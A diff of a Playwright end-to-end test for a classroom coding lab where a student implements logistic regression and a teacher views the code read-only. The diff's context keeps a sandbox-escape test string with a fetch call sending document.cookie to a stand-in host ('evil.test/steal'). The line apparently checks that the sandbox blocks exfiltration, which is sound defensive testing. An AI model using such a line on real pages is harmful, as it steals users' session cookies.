@@ -1,49 +1,6 @@
 import { expect, type Page, test } from "@playwright/test";
+import { CORRECT, SIGN_ERROR } from "./lab-code";
 import { createClass, joinAsStudent, screenshot, signUpTeacher } from "./support";
-
-const CORRECT = `function sigmoid(z) {
-  return 1 / (1 + Math.exp(-z));
-}
-function predictProba(X, w, b) {
-  return X.map((row) => sigmoid(row[0] * w[0] + row[1] * w[1] + b));
-}
-function logLoss(y, yPred) {
-  const eps = 1e-15;
-  let sum = 0;
-  for (let i = 0; i < y.length; i++) {
-    const p = Math.min(Math.max(yPred[i], eps), 1 - eps);
-    sum += y[i] * Math.log(p) + (1 - y[i]) * Math.log(1 - p);
-  }
-  return -sum / y.length;
-}
-function computeGradients(X, y, yPred) {
-  const N = y.length;
-  const dw = [0, 0];
-  let db = 0;
-  for (let i = 0; i < N; i++) {
-    const r = yPred[i] - y[i];
-    dw[0] += r * X[i][0];
-    dw[1] += r * X[i][1];
-    db += r;
-  }
-  return { dw: [dw[0] / N, dw[1] / N], db: db / N };
-}
-function train(X, y, lr, iterations) {
-  let w = [0, 0];
-  let b = 0;
-  const losses = [];
-  for (let i = 0; i < iterations; i++) {
-    const yPred = predictProba(X, w, b);
-    const { dw, db } = computeGradients(X, y, yPred);
-    w = [w[0] - lr * dw[0], w[1] - lr * dw[1]];
-    b -= lr * db;
-    losses.push(logLoss(y, predictProba(X, w, b)));
-  }
-  return { w, b, losses };
-}
-`;
-
-const SIGN_ERROR = CORRECT.replace("const r = yPred[i] - y[i];", "const r = y[i] - yPred[i];");
 
 const ESCAPE_ATTEMPTS = `const tried = [];
 try { fetch("https://evil.test/steal?c=" + document.cookie); } catch (e) { tried.push("fetch"); }
@@ -114,15 +71,17 @@ test("a student implements logistic regression in the lab, the teacher sees it",
   await expect(page.getByText("// keep going")).toBeVisible();
   await expect(page.getByRole("button", { name: "Restore last passing version" })).toBeVisible();
 
-  // The teacher sees the status and reads the code.
+  // The teacher sees the lab in the class progress grid and opens the code read-only from it.
   await teacher.page.reload();
-  const card = teacher.page.getByRole("table", { name: "Coding lab" });
-  await expect(card.getByRole("row", { name: /Ada/ })).toContainText("Passed");
-  await card.getByRole("button", { name: "View Ada's code" }).click();
+  const grid = teacher.page.getByRole("table", { name: "Lesson progress" });
+  const row = grid.getByRole("row", { name: /Ada/ });
+  await expect(row.getByRole("link", { name: /^Ada's code: Passed ✓/ })).toBeVisible();
+  await expect(row).toContainText("Completed ✓"); // the from-scratch objective, completed by the lab
+  await row.getByRole("link", { name: /^Ada's code/ }).click();
+  await expect(teacher.page.getByRole("heading", { name: "Ada's code" })).toBeVisible();
   const readOnly = teacher.page.getByRole("textbox", { name: "Ada's code (read-only)" });
   await expect(readOnly).toContainText("// keep going");
   await expect(readOnly).toHaveAttribute("contenteditable", "false");
-  await teacher.page.getByRole("heading", { name: "Coding lab" }).scrollIntoViewIfNeeded();
   await screenshot(teacher.page, "lab-teacher");
   expect(errors).toEqual([]);
 });
